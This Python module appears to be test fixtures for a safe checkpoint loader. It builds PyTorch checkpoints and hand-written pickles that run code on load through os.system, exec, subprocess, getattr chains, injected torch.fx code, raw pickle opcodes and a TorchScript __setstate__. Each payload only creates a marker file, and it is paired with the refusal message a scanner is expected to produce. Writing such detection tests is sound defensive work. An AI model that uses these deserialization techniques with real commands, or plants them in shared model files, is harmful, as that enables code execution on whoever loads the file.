"""Checkpoints that attack whoever loads them: each leaves a marker file if anything of its own runs."""

from __future__ import annotations

import functools
import importlib
import io
import operator
import os
import runpy
import subprocess
import zipfile
from pathlib import Path

import torch
from torch.fx.graph_module import reduce_graph_module

IMPORTS = "import torch\n"
LINE = "torch.fx graph module with the line 'open("
SAVED_BY_HAND = b"\x80\x02"
"""How a pickle of protocol 2 begins."""


class Call:
    """An object whose unpickling calls `function`, which may be the result of another `Call`."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments

    def __call__(self):
        """Only so that pickle takes it for a function."""


class State(Call):
    """An object that unpickling makes with `function` and then gives a state."""

    def __init__(self, function, *arguments, state):
        super().__init__(function, *arguments)
        self.state = state

    def __reduce__(self):
        return self.function, self.arguments, self.state


def source(marker):
    """Python that leaves the marker."""
    return f"open({str(marker)!r}, 'w').close()"


def shell(marker):
    """A command that leaves the marker."""
    return f"touch {marker}"


def module(name):
    return Call(importlib.import_module, name)


def graph(marker, *, code="def forward(self, x):\n    return x\n", imports=IMPORTS):
    fill = {"payload": source(marker)}
    body = {"_code": code.format(**fill), "training": True, "_parameters": {}, "_buffers": {}, "_modules": {}}
    return Call(reduce_graph_module, body, imports.format(**fill))


def archived(value):
    """`value` as `torch.storage._load_from_bytes` reads it."""
    buffer = io.BytesIO()
    torch.save(value, buffer)
    return buffer.getvalue()


def through_globals(marker):
    """From an allowed function to exec, by attributes alone."""
    get = Call(getattr, Call(getattr, torch.nn.functional.silu, "__globals__"), "get")
    builtins = Call(get, "__builtins__")
    return Call(Call(Call(getattr, builtins, "get"), "exec"), source(marker))


def script(marker):
    path = Path(marker).with_suffix(".py")
    path.write_text(source(marker))
    return Call(runpy.run_path, str(path))


PAYLOADS = {
    "os.system": (lambda m: Call(os.system, shell(m)), "posix.system"),
    "builtins.exec": (lambda m: Call(exec, source(m)), "builtins.exec"),
    "builtins.eval": (lambda m: Call(eval, source(m)), "builtins.eval"),
    "subprocess.Popen": (lambda m: Call(subprocess.Popen, ["touch", str(m)]), "subprocess.Popen"),
    "importlib": (lambda m: Call(Call(getattr, module("os"), "system"), shell(m)), "importlib.import_module"),
    "operator.attrgetter": (
        lambda m: Call(Call(Call(operator.attrgetter, "system"), module("os")), shell(m)),
        "operator.attrgetter",
    ),
    "functools.partial": (lambda m: Call(Call(functools.partial, exec, source(m))), "functools.partial"),
    "getattr": (through_globals, "builtins.getattr of '__globals__'"),
    "runpy": (script, "runpy.run_path"),
    "torch.storage": (
        lambda m: Call(torch.storage._load_from_bytes, archived(Call(exec, source(m)))),
        "torch.storage._load_from_bytes",
    ),
    "graph module, statement": (lambda m: graph(m, code="{payload}\ndef forward(self, x):\n    return x\n"), LINE),
    "graph module, in forward": (lambda m: graph(m, code="def forward(self, x):\n    {payload}\n    return x\n"), LINE),
    "graph module, default": (lambda m: graph(m, code="def forward(self, x, y={payload}):\n    return x\n"), LINE),
    "graph module, decorator": (
        lambda m: graph(m, code="@(lambda f: {payload})\ndef forward(self, x):\n    return x\n"),
        "torch.fx graph module with the line 'lambda f: open(",
    ),
    "graph module, annotation": (lambda m: graph(m, code="def forward(self, x: {payload}):\n    return x\n"), LINE),
    "graph module, import block": (lambda m: graph(m, imports="import torch\n{payload}\n"), LINE),
    "graph module, imported name": (
        lambda m: graph(
            m,
            imports="from builtins import exec as inf\n",
            code="def forward(self, x, y=inf({payload!r})):\n    return x\n",
        ),
        "from builtins import exec as inf",
    ),
}
"""By name: what makes the payload, and what the refusal says was found."""


def text(value):
    """A text as protocol 2 writes it."""
    encoded = str(value).encode()
    return b"X" + len(encoded).to_bytes(4, "little") + encoded


def short(value):
    """A text as protocol 4 writes it."""
    encoded = str(value).encode()
    return b"\x8c" + bytes([len(encoded)]) + encoded


HAND_WRITTEN = {
    "protocol 0": (lambda m: f"cposix\nsystem\n(S'{shell(m)}'\ntR.".encode(), "posix.system"),
    "INST": (lambda m: f"(S'{shell(m)}'\niposix\nsystem\n.".encode(), "posix.system"),
    "OBJ": (lambda m: f"(cposix\nsystem\nS'{shell(m)}'\no.".encode(), "posix.system"),
    "STACK_GLOBAL": (
        lambda m: b"\x80\x04" + short("posix") + short("system") + b"\x93" + short(shell(m)) + b"\x85R.", "posix.system"
    ),
    "STACK_GLOBAL by memo": (
        lambda m: b"\x80\x04" + short("system") + b"\x940" + short("posix") + b"\x940h\x01h\x00\x93" + short(shell(m))
        + b"\x85R.",
        "posix.system",
    ),
    "STACK_GLOBAL of an allowed name": (
        lambda m: b"\x80\x04" + short("collections") + short("OrderedDict") + b"\x930cposix\nsystem\n" + text(shell(m))
        + b"\x85R.",
        "posix.system",
    ),
    "EXT1": (lambda m: SAVED_BY_HAND + b"\x82\xf0" + text(shell(m)) + b"\x85R.", "the pickle extension 240"),
}  # fmt: skip
"""Pickles that no pickler of Python writes for such an object (EXT1 stands for posix.system as number 240)."""


def poisoned(checkpoint, target, payload):
    """A real model with a payload among its attributes."""
    model = torch.load(checkpoint, weights_only=False)
    model.note = payload
    torch.save(model, target)
    return target


def rewritten(checkpoint, target, *, pickled=None, **added):
    """A real archive with another pickle in it, or with further files."""
    with zipfile.ZipFile(checkpoint) as old, zipfile.ZipFile(target, "w") as new:
        folder = old.namelist()[0].partition("/")[0]
        for name in old.namelist():
            new.writestr(name, pickled if pickled and name.endswith("/data.pkl") else old.read(name))
        for name, content in added.items():
            new.writestr(f"{folder}/{name.replace('__', '.')}", content)
    return target


class Saving(torch.nn.Module):
    """TorchScript that writes a file as soon as it is read back."""

    def __init__(self, path: str):
        super().__init__()
        self.path = path

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> str:
        return self.path

    @torch.jit.export
    def __setstate__(self, state: str) -> None:
        self.path = state
        self.training = False
        torch.save(torch.ones(1), state)


def scripted(checkpoint, target, marker):
    """A real model whose TorchScript, kept as bytes by e3nn, writes the marker."""
    from e3nn.util.codegen import CodeGenMixin

    model = torch.load(checkpoint, weights_only=False)
    generated = next(part for part in model.modules() if isinstance(part, CodeGenMixin))
    generated._modules[generated.__codegen__[0]] = torch.jit.script(Saving(str(marker)))
    torch.save(model, target)
    return target
